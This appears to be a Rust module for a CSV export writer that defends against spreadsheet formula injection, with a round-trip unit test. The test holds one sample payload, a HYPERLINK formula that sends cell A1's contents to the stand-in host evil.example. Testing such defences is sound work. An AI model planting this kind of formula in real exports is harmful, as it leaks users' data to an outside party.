//! The one CSV writer of every export (the audit log R11.1, the regional directory R12.2), for
//! files that are opened in a spreadsheet: UTF-8 with a BOM (which Excel reads), CRLF line ends,
//! fields quoted as RFC 4180 says, and no formulas (ASVS 5.0 1.2.10, CWE-1236): a cell that a
//! spreadsheet would read as one — starting with = + - @, a tab, a carriage return, a line feed,
//! a NUL, or the full-width ＝ ＋ － ＠ that Japanese input produces — is made text with a
//! leading apostrophe. [`read_cell`] takes the apostrophe off again, so an export imports as it was.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];

/// A cell as exported: made text when it would be a formula.
pub fn text_cell(value: &str) -> Cow<'_, str> {
    if value.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// A cell as imported: the apostrophe [`text_cell`] added is taken off.
pub fn read_cell(value: &str) -> &str {
    match value.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => value,
    }
}

/// Builds a CSV file row by row.
pub struct CsvWriter {
    out: String,
}

impl Default for CsvWriter {
    fn default() -> Self {
        CsvWriter { out: String::from("\u{feff}") }
    }
}

impl CsvWriter {
    pub fn new() -> Self {
        Self::default()
    }

    /// One row; every cell goes through [`text_cell`], then is quoted when it must be.
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        for (i, cell) in cells.into_iter().enumerate() {
            if i > 0 {
                self.out.push(',');
            }
            let cell = text_cell(cell.as_ref());
            if cell.contains([',', '"', '\r', '\n']) {
                self.out.push('"');
                self.out.push_str(&cell.replace('"', "\"\""));
                self.out.push('"');
            } else {
                self.out.push_str(&cell);
            }
        }
        self.out.push_str("\r\n");
    }

    pub fn finish(self) -> String {
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// R11.1, R12.2: what a spreadsheet would run is exported as text, and imported back as it was.
    #[test]
    fn r12_2_r11_1_formula_cells_are_made_text_and_read_back() {
        let cells = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"詳細\")",
            "+81-48-000-0000",
            "-1",
            "@SUM(A1:A9)",
            "\tx",
            "\rx",
            "＝1+1",
            "ひまわり",
            "a,b",
            "",
        ];
        let mut w = CsvWriter::new();
        w.row(["名称", "備考"]);
        w.row(cells);
        let text = w.finish();
        assert!(text.starts_with("\u{feff}名称,備考\r\n"));
        let body = text.trim_start_matches('\u{feff}');
        let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(body.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        let exported: Vec<&str> = record.iter().collect();
        assert_eq!(exported[0], "'=HYPERLINK(\"https://evil.example/?\"&A1,\"詳細\")");
        assert_eq!(exported[1], "'+81-48-000-0000");
        assert_eq!(exported[2], "'-1");
        assert_eq!(exported[3], "'@SUM(A1:A9)");
        assert_eq!(exported[4], "'\tx");
        assert_eq!(exported[5], "'\rx");
        assert_eq!(exported[6], "'＝1+1");
        assert_eq!(&exported[7..], &["ひまわり", "a,b", ""]);
        for (cell, original) in exported.iter().zip(cells) {
            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} would be a formula");
            assert_eq!(read_cell(cell), original);
        }
        assert_eq!(read_cell("'ただの引用"), "'ただの引用", "an apostrophe of the data's own stays");
    }
}
